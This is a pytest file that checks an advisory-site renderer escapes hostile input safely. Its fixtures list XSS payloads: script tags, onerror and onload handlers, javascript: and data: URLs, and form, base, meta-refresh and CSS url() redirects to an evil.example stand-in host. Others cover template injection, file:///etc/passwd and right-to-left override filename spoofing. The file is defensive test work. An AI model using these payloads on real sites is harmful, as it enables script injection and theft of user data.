"""Whatever an author or a finder writes, the pages that show it do no harm.

Lint refuses most of this. Here it is given to the pages all the same, and what they
become is read by a parser that works as browsers do (html5lib, the algorithm of the
HTML standard).
"""

from collections.abc import Iterator
from dataclasses import replace
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest

from publisher.model.advisory import Product, Reference
from publisher.model.chain import Signed
from publisher.model.ids import AdvisoryId
from publisher.render import html
from tests import builders
from tests.builders import EN
from tests.render import samples

TEXTS = {
    "a script": "<script>alert(1)</script>",
    "a script after an attribute": '"><script>alert(1)</script>',
    "a script after the title": "</title><script>alert(1)</script>",
    "a script in capitals": "<ScRiPt\nsrc=//evil.example>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler in an attribute": '" onmouseover=alert(1) x="',
    "a handler in single quotes": "' onfocus=alert(1) autofocus='",
    "a drawing": "<svg/onload=alert(1)>",
    "a drawing with a link": '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "formulas": "<math><mtext><mglyph><style><img src onerror=alert(1)>",
    "a frame": "</bdi></h1><iframe srcdoc='<script>alert(1)</script>'>",
    "a style": "<style>*{display:none}</style>",
    "a style in an attribute": '" style="background:url(//evil.example)" x="',
    "another base": '<base href="//evil.example">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "a form": '<form action="//evil.example"><input name=q>',
    "an address that runs": "javascript:alert(1)",
    "an address that holds a page": "data:text/html,<script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities without an end": "&#x3c;script&#62 &lt",
    "entities of entities": "&amp;lt;script&amp;gt;",
    "percent signs": "%3Cscript%3Ealert(1)%3C/script%3E",
    "a comment": "<!-- --><script>alert(1)</script><!--",
    "an open comment": "<!--",
    "an open section": "]]><![CDATA[<script>alert(1)</script>",
    "an open tag": "<b",
    "elements without scripts": '<noscript><p title="</noscript><img onerror=x>">',
    "a template": "{{ 7 * 7 }}{% raw %}{# x #}${7*7}<%= 7*7 %>",
    "a format": "{0.__class__} {title} %(title)s %s",
    "Markdown": "[x](javascript:alert(1)) ![x](data:,x) `</code><script>`",
    "an override": "txt.\u202egpj.exe",
    "isolates that stay open": "\u2066a \u2067b \u2068c",
    "embeddings": "\u202a\u202b\u202d x",
    "marks of direction": "a\u200f!\u200e\u061cb",
    "right-to-left letters": "שלום! (עולם) 1.2.3 <b>",
    "what has no width": "a\u200bb\u2060c\ufeffd\U000e0041",
    "control characters": "a\x00b\x08c\x1b[31md\x7f\x85e",
    "line separators": "a\u2028b\u2029c",
    "no characters": "\ufdd0 \ufffe \ufffb",
}
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/",
    'https://a.example/"onclick="alert(1)',
    "https://a.example/<script>",
    "https://a.example/\u202egpj.exe",
)
FORBIDDEN = {"style", "iframe", "object", "embed", "svg", "math", "base", "frame"}
LINKS = {"href", "src", "action", "formaction", "cite", "data", "poster"}
FIRST = 100


def hostile(number: int, text: str) -> Signed:
    """Return an advisory of which all is `text` that may be text."""
    advisory = builders.advisory(japanese=None)
    (vulnerability,) = advisory.vulnerabilities
    return samples.signed(
        replace(
            advisory,
            id=AdvisoryId("ADV", 2026, number),
            affected=(Product(text, text, text, text), Product(text, "x", "1", None)),
            vulnerabilities=(replace(vulnerability, title=text),),
            references=tuple(Reference(text, each) for each in (text, *ADDRESSES)),
            acknowledgments=(text,),
            original=replace(
                advisory.original,
                title=text,
                summaries=(text, text),
                body=f"{text}\n\n## {text}\n\n* {text}\n\n| {text} |\n|---|\n| x |\n",
            ),
        )
    )


@pytest.fixture(scope="module")
def site() -> dict[str, bytes]:
    """Build a site that has nothing but hostile advisories."""
    return samples.site(
        hostile(FIRST + n, text) for n, text in enumerate(TEXTS.values())
    )


def parsed(data: bytes) -> Element:
    """Return a page as a browser reads it; whatever is no HTML is a failure."""
    parser = html5lib.HTMLParser(namespaceHTMLElements=False)
    tree: Element = parser.parse(data, transport_encoding="utf-8")
    assert parser.errors == []
    return tree


def elements(tree: Element) -> Iterator[tuple[str, dict[str, str]]]:
    """Yield the elements of a page, without its comments."""
    for element in tree.iter():
        if isinstance(element.tag, str):
            yield element.tag, {str(k): str(v) for k, v in element.attrib.items()}


def check(path: str, tree: Element) -> None:
    """Fail if a page could run, load or send anything that is not the site's own."""
    for tag, attributes in elements(tree):
        assert tag not in FORBIDDEN, path
        assert not any(name.startswith("on") for name in attributes), path
        assert not {"style", "srcdoc"} & set(attributes), path
        if tag == "script":
            assert urlsplit(attributes["src"])[:2] == ("", ""), path
        if tag in {"form", "img"}:
            own = attributes.get("action", attributes.get("src", ""))
            assert urlsplit(own)[:2] == ("", ""), path
        if tag == "meta" and "http-equiv" in attributes:
            assert attributes["http-equiv"] == "Content-Security-Policy"
        for name in LINKS & set(attributes):
            scheme = urlsplit(attributes[name]).scheme
            assert scheme in {"", "http", "https", "mailto"}, (path, attributes)


def test_no_page_does_harm(site: dict[str, bytes]) -> None:
    checked = 0
    for path, data in site.items():
        if path.endswith(".html"):
            check(path, parsed(data))
            checked += 1

    assert checked > len(TEXTS)


def test_a_script_is_only_on_the_page_for_searching(site: dict[str, bytes]) -> None:
    for path, data in site.items():
        if path.endswith(".html") and not path.endswith("/search.html"):
            assert "script" not in {tag for tag, _ in elements(parsed(data))}, path


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_is_shown_as_it_was_written(name: str, site: dict[str, bytes]) -> None:
    number = FIRST + list(TEXTS).index(name)
    tree = parsed(site[f"advisories/2026/ADV-2026-{number:04d}/en.html"])
    expected = html.visible(TEXTS[name]).split()

    (heading,) = tree.iter("h1")
    cells = [cell for cell in tree.iter("td") if cell.get("data-name")]
    assert "".join(heading.itertext()).split() == expected
    assert len(cells) == 8
    assert "".join(cells[0].itertext()).split() == expected
    named = [meta.get("content") for meta in tree.iter("meta")]
    assert html.visible(f"{TEXTS[name]} (ADV-2026-{number:04d})") in named


def test_no_page_holds_what_turns_text_around_or_hides(site: dict[str, bytes]) -> None:
    for path, data in site.items():
        if path.endswith(".html"):
            page = data.decode()
            assert html.visible(page) == page, path
            assert not set("\u202e\u2066\u200b\ufeff\x00\x1b") & set(page), path


def test_what_runs_from_right_to_left_stays_by_itself(site: dict[str, bytes]) -> None:
    number = FIRST + list(TEXTS).index("right-to-left letters")
    text = TEXTS["right-to-left letters"]

    pages = [f"advisories/2026/ADV-2026-{number:04d}/en.html", "en/2026/index.html"]
    for path in pages:
        tree = parsed(site[path])
        parents = {child: parent for parent in tree.iter() for child in parent}
        holders = [element for element in tree.iter() if element.text == text]
        assert holders, path
        for holder in holders:
            around = [holder.tag]
            while holder in parents:
                holder = parents[holder]
                around.append(holder.tag)
            # Cells, headings of a body, items and paragraphs are lines of their own.
            assert {"bdi", "td", "th", "h2", "li", "p", "title"} & set(around), path


def test_an_address_that_is_none_of_the_web_is_no_link() -> None:
    page = samples.page(hostile(7, "x"), EN)

    tree = parsed(page.encode())
    links = [link.get("href", "") for link in tree.iter("a")]
    runs = [link for link in links if "alert(1)" in link]
    assert runs == ['https://a.example/"onclick="alert(1)']
    assert "file:///etc/passwd" not in links
    assert "//evil.example/" not in links
